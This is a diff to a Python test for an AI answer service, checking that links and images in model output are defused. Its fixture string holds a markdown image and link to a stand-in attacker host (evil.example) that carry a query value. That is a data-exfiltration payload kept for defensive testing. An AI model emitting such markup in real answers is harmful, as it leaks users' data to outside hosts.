@@ -189,7 +189,7 @@ async def test_what_rests_on_nothing_becomes_the_one_sentence(
 
 async def test_what_the_model_writes_loads_and_links_nothing(service: AnswerService, claude: FakeClaude) -> None:
     leak = "![](https://evil.example/?q=node) <img src=x> [more](https://evil.example). "
-    claude.says(lambda body: [wire.text(leak), *wire.default_content(body)])
+    claude.says(lambda body: [wire.text(leak, wire.citation(body)), *wire.default_content(body)])
     answer = await ask(service, "What is a node?")
     assert answer.grounded
     assert answer.text.startswith("![] (…) < img src=x> [more] (…). According to the book: ")
